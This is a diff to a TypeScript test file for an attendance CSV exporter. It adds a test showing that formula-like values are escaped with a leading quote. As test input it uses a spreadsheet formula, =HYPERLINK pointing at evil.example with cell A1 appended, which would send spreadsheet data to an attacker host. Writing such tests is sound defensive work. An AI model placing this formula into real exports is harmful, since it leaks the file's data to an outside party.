@@ -8,7 +8,7 @@ import { createFileArchive } from '../../core/adapters/local/file-archive.ts';
 import { silentLogger } from '../../core/log.ts';
 import { createDuckDbEngine } from '../engine/duckdb-engine.ts';
 import { DAY, row } from '../test/event-rows.ts';
-import { computeAttendance, type PresenceRow } from './attendance.ts';
+import { computeAttendance, toCsv, type PresenceRow } from './attendance.ts';
 import { parseRoster, RosterError } from './roster.ts';
 import { attendanceKey, runAttendance } from './run-attendance.ts';
 
@@ -114,6 +114,25 @@ describe('attendance status', () => {
   });
 });
 
+describe('attendance CSV', () => {
+  it("gives formula-like names and roster fields a leading ', keeps numbers and times, starts with a BOM", () => {
+    const hostile = '=HYPERLINK("http://evil.example/?x="&A1)';
+    const result = computeAttendance(
+      DAY,
+      [presence('ann@x.org', '09:00', '10:00', 60, 'ann'), presence(null, '09:10', '09:20', 10, hostile)],
+      parseRoster('ann@x.org,@Ann,-A,+1,"=1+1"\n'),
+      thresholds,
+    );
+    const csv = toCsv(result);
+    expect(csv.split('\n').slice(1)).toEqual([
+      `2026-02-03,1,m1,member,Present,ann@x.org,'@Ann,'-A,'+1,'=1+1,ann,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z,60.00,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z`,
+      `2026-02-03,1,m1,guest,Guest,,,,,,"'=HYPERLINK(""http://evil.example/?x=""&A1)",2026-02-03T09:10:00Z,2026-02-03T09:20:00Z,10.00,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z`,
+      '',
+    ]);
+    expect(csv.startsWith('\uFEFFattendance_date,')).toBe(true);
+  });
+});
+
 describe('attendance job', () => {
   it('writes the CSV for the day from the warehouse', async () => {
     const dir = await mkdtemp(join(tmpdir(), 'attendance-'));
@@ -145,13 +164,14 @@ describe('attendance job', () => {
         { email: null, status: 'Guest', is_guest: true, present_mins: 20 },
       ]);
       expect((await archive.get(attendanceKey(DAY)))?.toString()).toBe(
-        [
-          'attendance_date,meeting_id,meeting_uuid,attendee_type,status,email,first_name,last_name,roster_id,department,participant_name,first_join_time,last_leave_time,present_mins,meeting_start_time,meeting_end_time',
-          '2026-02-03,86431910364,mtg-uuid-1==,member,Present,ann@x.org,Ann,A,1,Ops,Ann,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z,60.00,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z',
-          '2026-02-03,86431910364,mtg-uuid-1==,member,Absent,bob@x.org,Bob,B,2,Ops,,,,0.00,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z',
-          '2026-02-03,86431910364,mtg-uuid-1==,guest,Guest,,,,,,Visitor,2026-02-03T09:30:00Z,2026-02-03T09:50:00Z,20.00,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z',
-          '',
-        ].join('\n'),
+        '\uFEFF' +
+          [
+            'attendance_date,meeting_id,meeting_uuid,attendee_type,status,email,first_name,last_name,roster_id,department,participant_name,first_join_time,last_leave_time,present_mins,meeting_start_time,meeting_end_time',
+            '2026-02-03,86431910364,mtg-uuid-1==,member,Present,ann@x.org,Ann,A,1,Ops,Ann,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z,60.00,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z',
+            '2026-02-03,86431910364,mtg-uuid-1==,member,Absent,bob@x.org,Bob,B,2,Ops,,,,0.00,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z',
+            '2026-02-03,86431910364,mtg-uuid-1==,guest,Guest,,,,,,Visitor,2026-02-03T09:30:00Z,2026-02-03T09:50:00Z,20.00,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z',
+            '',
+          ].join('\n'),
       );
     } finally {
       await engine.close();
